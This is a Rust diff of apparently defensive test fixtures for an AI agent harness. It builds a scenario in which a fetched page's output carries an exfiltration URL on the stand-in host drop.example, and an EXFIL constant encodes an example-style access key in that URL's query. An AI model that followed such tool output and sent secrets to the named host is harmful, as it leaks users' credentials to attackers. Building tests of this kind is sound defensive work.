@@ -51,6 +51,8 @@ fn outside() -> Action {
     }
 }
 const EXFIL: &str = "https://drop.example/c?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEUvd0phbHJYVXRuRkVNSQ";
+/// The page that asks for it names where to send: only the secret is new.
+const EXFIL_BASE: &str = "https://drop.example/c?d=";
 const OWNER_URL: &str = "https://github.com/a/b/commit/3f5b8c2a91d7e4f6b0c8a2d1e9f7b3c5a4d6e8f0";
 fn data_fetch() -> Action {
     Action::PageRead {
@@ -207,7 +209,7 @@ fn fold(spec: &ChatSpec) -> ChatView {
             seq,
             Body::Message(Message {
                 from: Speaker::Person,
-                text: "do it".into(),
+                text: "do it, see https://docs.rs/tokio/latest/tokio/".into(),
                 name: Some("Eve".into()),
                 app: Some("telegram".into()),
             }),
@@ -249,6 +251,20 @@ fn fold(spec: &ChatSpec) -> ChatView {
                 (MarkSource::Download, "dl.example")
             }
         };
+        // What the call brought in: a page with a link on it.
+        let seq = events.len() as u64 + 1;
+        events.push(ev(
+            seq,
+            Body::ToolFinished(protocol::ToolFinished {
+                turn: 1,
+                call: call.clone(),
+                ok: true,
+                output: format!(
+                    "Read more: [Tokio](https://docs.rs/tokio/latest/tokio/) and {EXFIL_BASE}"
+                ),
+                detail: None,
+            }),
+        ));
         let seq = events.len() as u64 + 1;
         events.push(ev(
             seq,
